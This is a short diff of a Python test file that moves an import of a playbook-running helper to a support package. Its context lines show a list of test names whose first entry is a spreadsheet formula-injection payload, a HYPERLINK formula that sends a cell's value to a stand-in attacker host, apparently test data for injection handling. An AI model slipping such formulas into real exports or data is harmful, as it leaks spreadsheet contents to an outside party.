@@ -17,8 +17,8 @@ import pytest
 from markdown_it import MarkdownIt
 
 from tests.integration.people import admit
-from tests.integration.run_playbook import play
 from tests.simulator.launch import running
+from tests.support.run_playbook import play
 
 NAMES = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
